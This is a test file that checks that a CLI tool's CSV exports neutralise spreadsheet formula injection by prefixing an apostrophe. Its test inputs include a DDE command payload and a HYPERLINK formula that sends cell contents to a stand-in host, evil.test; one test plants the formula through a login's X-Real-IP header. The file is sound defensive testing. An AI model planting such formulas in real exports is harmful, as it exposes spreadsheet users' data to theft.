/**
 * CSV formula injection: a cell a spreadsheet would run as a formula (it begins with =, +, -,
 * @, tab or CR) is written with a leading ' in every CSV, events and logins alike. The login
 * log's address is whatever X-Real-IP a user sent when logging in, so it is the easy way in.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LoginRecord } from '../../src/core/record.js';
import { csvField, eventCsvRenderer, loginCsvRenderer } from '../../src/output/formats.js';
import { startSandbox } from '../../src/sandbox/index.js';
import type { Sandbox } from '../../src/sandbox/types.js';
import { configDirs, loginAs } from '../helpers/login.js';
import { sampleRecord } from '../helpers/output.js';
import { runCli } from '../helpers/run-cli.js';

const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x.test/?"&A1,"ok")'];

describe('csv cells that would start a formula', () => {
  it.each(FORMULAS)('are neutralised: %j', (value) => {
    const field = csvField(value);
    // What a spreadsheet reads back (quotes undone) starts with the apostrophe, then the text.
    const unquoted = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
    expect(unquoted).toBe(`'${value}`);
  });

  it('leave other cells as they were', () => {
    for (const value of ['plain', '10.0.0.1', 'a=b', '{"a":1}', "'quoted"])
      expect(csvField(value)).toBe(value.includes('"') ? `"${value.replace(/"/g, '""')}"` : value);
  });

  it('are neutralised in the events CSV and the logins CSV', () => {
    const events = eventCsvRenderer().record(sampleRecord({ name: '=cmd|"/c calc"!A1', user_id: '@evil' }));
    expect(events.split('\r\n')[1]).toContain(`,"'=cmd|""/c calc""!A1",`);
    expect(events).toContain(",'@evil,");
    const login: LoginRecord = {
      id: 'l1',
      created_at: '2026-11-29T08:00:01Z',
      person_id: 'u1',
      ip_address: '+1-2',
      origin: '-web',
    };
    expect(loginCsvRenderer().record(login).split('\r\n')[1]).toBe("l1,2026-11-29T08:00:01Z,u1,'+1-2,'-web");
  });
});

describe('logs --logins --format csv', () => {
  let sandbox: Sandbox;
  const configDir = configDirs();
  beforeAll(async () => {
    sandbox = await startSandbox();
  });
  afterAll(() => sandbox.close());

  it('neutralises a formula planted through X-Real-IP at login', async () => {
    const planted = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
    const answer = await fetch(`${sandbox.apiUrl}/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-real-ip': planted },
      body: JSON.stringify({ email: sandbox.users.artist.email, password: sandbox.users.artist.password }),
    });
    expect(answer.status).toBe(200);
    const dir = configDir();
    await loginAs(sandbox, sandbox.users.admin, dir);
    const result = await runCli(['logs', '--logins', '--all', '--format', 'csv'], {
      env: { KITSU_TAIL_CONFIG_DIR: dir },
    });
    expect(result.code, result.stderr).toBe(0);
    const line = result.stdout.split('\r\n').find((l) => l.includes('HYPERLINK')) ?? '';
    expect(line).toMatch(/^[^,]+,[^,]+,[^,]+,"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""Click""\)",script$/);
  });
});
